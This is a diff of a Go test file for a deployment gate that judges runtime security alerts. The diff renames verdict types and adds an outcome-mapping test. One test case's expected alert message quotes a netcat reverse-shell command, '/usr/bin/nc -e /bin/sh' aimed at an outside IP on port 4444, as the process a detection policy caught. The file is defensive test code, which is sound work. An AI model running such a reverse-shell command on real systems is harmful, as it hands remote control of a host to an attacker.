@@ -1,6 +1,7 @@
 package gate
 
 import (
+	"errors"
 	"strings"
 	"testing"
 	"time"
@@ -85,70 +86,70 @@ func TestJudgeRuntime(t *testing.T) {
 		name    string
 		obs     Observation
 		policy  RuntimePolicy
-		verdict Verdict
+		verdict RuntimeVerdict
 		reason  string
 		message string
 	}{
-		{"a clean rollout passes", healthy(), RuntimePolicy{}, VerdictPass, "", "3 process(es) seen"},
+		{"a clean rollout passes", healthy(), RuntimePolicy{}, RuntimePass, "", "3 process(es) seen"},
 		{"nothing observed is never a pass", with(healthy(), func(o *Observation) { o.Targets[0].ProcessCount = 0 }), RuntimePolicy{},
-			VerdictInconclusive, ReasonNoProcessesSeen, "no process of fraud-prod/granite-predictor reached Central"},
+			RuntimeInconclusive, ReasonNoProcessesSeen, "no process of fraud-prod/granite-predictor reached Central"},
 		{"a deployment Central never reported", with(healthy(), func(o *Observation) { o.Targets[0].Seen, o.Targets[0].ClusterID = false, "" }), RuntimePolicy{},
-			VerdictInconclusive, ReasonDeploymentNotSeen, "never reported deployment fraud-prod/granite-predictor"},
+			RuntimeInconclusive, ReasonDeploymentNotSeen, "never reported deployment fraud-prod/granite-predictor"},
 		{"a token that cannot read alerts: its empty list proves nothing", with(healthy(), func(o *Observation) { delete(o.Permissions, "Alert") }), RuntimePolicy{},
-			VerdictInconclusive, ReasonMissingPermissions, "cannot read Alert"},
+			RuntimeInconclusive, ReasonMissingPermissions, "cannot read Alert"},
 		{"permissions never read", with(healthy(), func(o *Observation) { o.Permissions = nil }), RuntimePolicy{},
-			VerdictInconclusive, ReasonMissingPermissions, "could not be read"},
+			RuntimeInconclusive, ReasonMissingPermissions, "could not be read"},
 		{"collector degraded", with(healthy(), func(o *Observation) {
 			o.Health = map[string]ClusterHealth{cluster: {Sensor: acs.HealthHealthy, Collector: acs.HealthDegraded, LastContact: o.Health[cluster].LastContact}}
-		}), RuntimePolicy{}, VerdictInconclusive, ReasonSensorUnhealthy, "Collector DEGRADED"},
-		{"health never read", with(healthy(), func(o *Observation) { o.Health = nil }), RuntimePolicy{}, VerdictInconclusive, ReasonSensorUnhealthy, "unknown"},
-		{"sensor silent for long", with(healthy(), func(o *Observation) { o.Now = o.Now.Add(time.Hour) }), RuntimePolicy{}, VerdictInconclusive, ReasonSensorUnhealthy, "last contact"},
-		{"no cluster named", with(healthy(), func(o *Observation) { o.Targets[0].ClusterID = "" }), RuntimePolicy{}, VerdictInconclusive, ReasonSensorUnhealthy, "named no cluster"},
+		}), RuntimePolicy{}, RuntimeInconclusive, ReasonSensorUnhealthy, "Collector DEGRADED"},
+		{"health never read", with(healthy(), func(o *Observation) { o.Health = nil }), RuntimePolicy{}, RuntimeInconclusive, ReasonSensorUnhealthy, "unknown"},
+		{"sensor silent for long", with(healthy(), func(o *Observation) { o.Now = o.Now.Add(time.Hour) }), RuntimePolicy{}, RuntimeInconclusive, ReasonSensorUnhealthy, "last contact"},
+		{"no cluster named", with(healthy(), func(o *Observation) { o.Targets[0].ClusterID = "" }), RuntimePolicy{}, RuntimeInconclusive, ReasonSensorUnhealthy, "named no cluster"},
 		{"Central down through the end", with(healthy(), func(o *Observation) { o.Final, o.Failing = false, "HTTP 503" }), RuntimePolicy{},
-			VerdictInconclusive, ReasonCentralUnavailable, "HTTP 503"},
-		{"no workload at all", with(healthy(), func(o *Observation) { o.Targets = nil }), RuntimePolicy{}, VerdictInconclusive, ReasonDeploymentNotSeen, "no workload"},
+			RuntimeInconclusive, ReasonCentralUnavailable, "HTTP 503"},
+		{"no workload at all", with(healthy(), func(o *Observation) { o.Targets = nil }), RuntimePolicy{}, RuntimeInconclusive, ReasonDeploymentNotSeen, "no workload"},
 
 		{"a HIGH runtime alert fails, naming policy and process", with(healthy(), withAlerts(netcat)), RuntimePolicy{},
-			VerdictFail, ReasonRuntimeViolation, `"Netcat Execution Detected" (HIGH, RUNTIME, ACTIVE) on granite-predictor: Central enforced KILL_POD_ENFORCEMENT; process /usr/bin/nc -e /bin/sh 203.0.113.7 4444 in container kserve-container of pod granite-predictor-7d9c8b6f54-x2kqp`},
+			RuntimeFail, ReasonRuntimeViolation, `"Netcat Execution Detected" (HIGH, RUNTIME, ACTIVE) on granite-predictor: Central enforced KILL_POD_ENFORCEMENT; process /usr/bin/nc -e /bin/sh 203.0.113.7 4444 in container kserve-container of pod granite-predictor-7d9c8b6f54-x2kqp`},
 		{"a fail wins over inconclusive", with(healthy(), func(o *Observation) { o.Final = false; o.Targets[0].Alerts = []ObservedAlert{netcat} }), RuntimePolicy{},
-			VerdictFail, ReasonRuntimeViolation, "Netcat"},
+			RuntimeFail, ReasonRuntimeViolation, "Netcat"},
 		{"HIGH below CRITICAL, no enforcement: seen, passes", with(healthy(), withAlerts(ObservedAlert{ListAlert: noKill})), RuntimePolicy{Severity: acs.PolicySeverityCritical},
-			VerdictPass, "", "1 alert(s) below CRITICAL"},
+			RuntimePass, "", "1 alert(s) below CRITICAL"},
 		{"the same alert at HIGH", with(healthy(), withAlerts(ObservedAlert{ListAlert: noKill})), RuntimePolicy{},
-			VerdictFail, ReasonRuntimeViolation, "severity HIGH at or above HIGH"},
-		{"a MEDIUM alert passes at HIGH", with(healthy(), withAlerts(ObservedAlert{ListAlert: medium})), RuntimePolicy{}, VerdictPass, "", "below HIGH"},
-		{"and fails at MEDIUM", with(healthy(), withAlerts(ObservedAlert{ListAlert: medium})), RuntimePolicy{Severity: acs.PolicySeverityMedium}, VerdictFail, ReasonRuntimeViolation, "MEDIUM at or above MEDIUM"},
+			RuntimeFail, ReasonRuntimeViolation, "severity HIGH at or above HIGH"},
+		{"a MEDIUM alert passes at HIGH", with(healthy(), withAlerts(ObservedAlert{ListAlert: medium})), RuntimePolicy{}, RuntimePass, "", "below HIGH"},
+		{"and fails at MEDIUM", with(healthy(), withAlerts(ObservedAlert{ListAlert: medium})), RuntimePolicy{Severity: acs.PolicySeverityMedium}, RuntimeFail, ReasonRuntimeViolation, "MEDIUM at or above MEDIUM"},
 		{"or by its policy on the deny list", with(healthy(), withAlerts(ObservedAlert{ListAlert: medium})), RuntimePolicy{DenyPolicies: []string{"remote file copy binary execution"}},
-			VerdictFail, ReasonRuntimeViolation, "deny list"},
+			RuntimeFail, ReasonRuntimeViolation, "deny list"},
 		{"or its category", with(healthy(), withAlerts(ObservedAlert{ListAlert: medium})), RuntimePolicy{DenyCategories: []string{"Anomalous Activity"}},
-			VerdictFail, ReasonRuntimeViolation, "category Anomalous Activity"},
+			RuntimeFail, ReasonRuntimeViolation, "category Anomalous Activity"},
 		{"a LOW alert resolved during the window still fails", with(healthy(), withAlerts(ObservedAlert{ListAlert: fx.pkgResolved})), RuntimePolicy{},
-			VerdictFail, ReasonRuntimeViolation, "resolved during the watch"},
-		{"one resolved before the window does not count", with(healthy(), withAlerts(ObservedAlert{ListAlert: resolvedBefore})), RuntimePolicy{}, VerdictPass, "", "no runtime violation"},
-		{"an old alert on the same UID does not count", with(healthy(), withAlerts(ObservedAlert{ListAlert: old})), RuntimePolicy{}, VerdictPass, "", "no runtime violation"},
+			RuntimeFail, ReasonRuntimeViolation, "resolved during the watch"},
+		{"one resolved before the window does not count", with(healthy(), withAlerts(ObservedAlert{ListAlert: resolvedBefore})), RuntimePolicy{}, RuntimePass, "", "no runtime violation"},
+		{"an old alert on the same UID does not count", with(healthy(), withAlerts(ObservedAlert{ListAlert: old})), RuntimePolicy{}, RuntimePass, "", "no runtime violation"},
 		{"another deployment's alert (same name prefix) does not count", with(healthy(), withAlerts(ObservedAlert{ListAlert: canary})), RuntimePolicy{},
-			VerdictPass, "", "no runtime violation"},
-		{"a DEPLOY alert counts only when asked", with(healthy(), withAlerts(ObservedAlert{ListAlert: deploy})), RuntimePolicy{}, VerdictPass, "", ""},
-		{"and then fails", with(healthy(), withAlerts(ObservedAlert{ListAlert: deploy})), RuntimePolicy{IncludeDeploy: true}, VerdictFail, ReasonRuntimeViolation, "DEPLOY"},
+			RuntimePass, "", "no runtime violation"},
+		{"a DEPLOY alert counts only when asked", with(healthy(), withAlerts(ObservedAlert{ListAlert: deploy})), RuntimePolicy{}, RuntimePass, "", ""},
+		{"and then fails", with(healthy(), withAlerts(ObservedAlert{ListAlert: deploy})), RuntimePolicy{IncludeDeploy: true}, RuntimeFail, ReasonRuntimeViolation, "DEPLOY"},
 
 		{"a process outside the allow-list fails", with(healthy(), func(o *Observation) { o.Targets[0].Processes = fx.processes }),
-			RuntimePolicy{Allow: allow("kserve-container:/usr/bin/modelguard")}, VerdictFail, ReasonProcessNotAllowed, "kserve-container ran /bin/sh, which is not on the allow-list"},
+			RuntimePolicy{Allow: allow("kserve-container:/usr/bin/modelguard")}, RuntimeFail, ReasonProcessNotAllowed, "kserve-container ran /bin/sh, which is not on the allow-list"},
 		{"all on the allow-list passes", with(healthy(), func(o *Observation) { o.Targets[0].Processes = fx.processes; o.Targets[0].ProcessCount = 0 }),
-			RuntimePolicy{Allow: serving}, VerdictPass, "", "3 process(es) seen"},
+			RuntimePolicy{Allow: serving}, RuntimePass, "", "3 process(es) seen"},
 		{"processes from before the window do not count", with(healthy(), func(o *Observation) {
 			o.Start = time.Date(2026, 11, 25, 12, 5, 0, 0, time.UTC)
 			o.Targets[0].Processes = fx.processes
-		}), RuntimePolicy{Allow: allow("kserve-container:/usr/bin/modelguard")}, VerdictPass, "", ""},
+		}), RuntimePolicy{Allow: allow("kserve-container:/usr/bin/modelguard")}, RuntimePass, "", ""},
 
 		{"an accepted inconclusive reason", with(healthy(), func(o *Observation) { o.Targets[0].ProcessCount = 0 }),
-			RuntimePolicy{AcceptInconclusive: []string{ReasonNoProcessesSeen}}, VerdictInconclusive, ReasonNoProcessesSeen, "accepted"},
+			RuntimePolicy{AcceptInconclusive: []string{ReasonNoProcessesSeen}}, RuntimeInconclusive, ReasonNoProcessesSeen, "accepted"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			r := JudgeRuntime(tc.obs, tc.policy)
-			if r.Verdict != tc.verdict || r.Reason != tc.reason || !strings.Contains(r.Message, tc.message) {
-				t.Fatalf("verdict=%s reason=%q message=%q\nwant %s %q containing %q", r.Verdict, r.Reason, r.Message, tc.verdict, tc.reason, tc.message)
+			if r.Decision != tc.verdict || r.Reason != tc.reason || !strings.Contains(r.Message, tc.message) {
+				t.Fatalf("verdict=%s reason=%q message=%q\nwant %s %q containing %q", r.Decision, r.Reason, r.Message, tc.verdict, tc.reason, tc.message)
 			}
-			if r.Verdict == VerdictPass && (r.ProcessesSeen == 0 || len(r.Problems) > 0) {
+			if r.Decision == RuntimePass && (r.ProcessesSeen == 0 || len(r.Problems) > 0) {
 				t.Fatalf("a pass with nothing observed: %+v", r)
 			}
 		})
@@ -158,7 +159,7 @@ func TestJudgeRuntime(t *testing.T) {
 func TestJudgeRuntimeAcceptsOnlyWhatItWasTold(t *testing.T) {
 	o := with(healthy(), func(o *Observation) { o.Targets[0].ProcessCount = 0; o.Final = false })
 	r := JudgeRuntime(o, RuntimePolicy{AcceptInconclusive: []string{ReasonNoProcessesSeen}})
-	if r.Verdict != VerdictInconclusive || r.Accepted || len(r.Problems) != 2 {
+	if r.Decision != RuntimeInconclusive || r.Accepted || len(r.Problems) != 2 {
 		t.Fatalf("two problems, one accepted: %+v", r)
 	}
 }
@@ -205,5 +206,33 @@ func TestWatchOptions(t *testing.T) {
 		if err == nil || !strings.Contains(err.Error(), want) {
 			t.Errorf("bad options: %v; want %q", err, want)
 		}
+	}
+}
+
+// Each verdict maps to one outcome, for both doors: inconclusive is an
+// error (never a pass) unless accepted.
+func TestRuntimeOutcomes(t *testing.T) {
+	fx := loadFixtures(t)
+	quiet := with(healthy(), func(o *Observation) { o.Targets[0].ProcessCount = 0 })
+	for _, tc := range []struct {
+		name    string
+		r       RuntimeReport
+		outcome Outcome
+		reason  string
+	}{
+		{"pass", JudgeRuntime(healthy(), RuntimePolicy{}), Pass, ""},
+		{"fail", JudgeRuntime(with(healthy(), withAlerts(ObservedAlert{ListAlert: fx.netcat})), RuntimePolicy{}), Fail, ReasonRuntimeViolation},
+		{"inconclusive", JudgeRuntime(quiet, RuntimePolicy{}), Error, ReasonNoProcessesSeen},
+		{"accepted", JudgeRuntime(quiet, RuntimePolicy{AcceptInconclusive: []string{ReasonNoProcessesSeen}}), Pass, ReasonNoProcessesSeen},
+		{"could not start", WatchFailed(errors.New("deployment fraud-prod/x not found")), Error, ReasonWorkload},
+	} {
+		v := tc.r.Verdict()
+		m := tc.r.Results().Map()
+		if v.Outcome != tc.outcome || v.Reason != tc.reason || m["gate"] != string(tc.outcome) || m["reason"] != tc.reason || m["verdict"] != string(tc.r.Decision) {
+			t.Errorf("%s: %+v, results %v", tc.name, v, m)
+		}
+	}
+	if m := WatchFailed(errors.New("x")).Results().Map(); m["processes-seen"] != "" || m["verdict"] != "error" {
+		t.Errorf("a watch that never ran counts nothing: %v", m)
 	}
 }
